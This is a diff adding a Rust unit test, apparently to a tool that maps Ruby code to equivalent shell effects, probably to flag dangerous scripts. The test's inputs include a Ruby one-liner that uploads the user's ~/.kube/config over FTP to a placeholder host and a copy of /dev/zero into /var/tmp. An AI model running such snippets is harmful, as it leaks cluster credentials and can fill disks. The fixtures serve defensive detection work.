@@ -424,3 +424,18 @@ fn threads_started_in_a_loop_that_never_ends_are_a_bomb() {
         None
     );
 }
+
+#[test]
+fn copies_and_uploads_read_what_they_send() {
+    assert_eq!(
+        effects("IO.copy_stream('/dev/zero', '/var/tmp/x.bin')"),
+        ["cp /dev/zero /var/tmp/x.bin"]
+    );
+    assert_eq!(
+        effects("require 'net/ftp'; Net::FTP.open('h') { |f| f.putbinaryfile(File.join(Dir.home, '.kube', 'config'), 'k') }")
+            .iter()
+            .filter(|e| e.starts_with("cat"))
+            .collect::<Vec<_>>(),
+        ["cat ~/.kube/config"]
+    );
+}
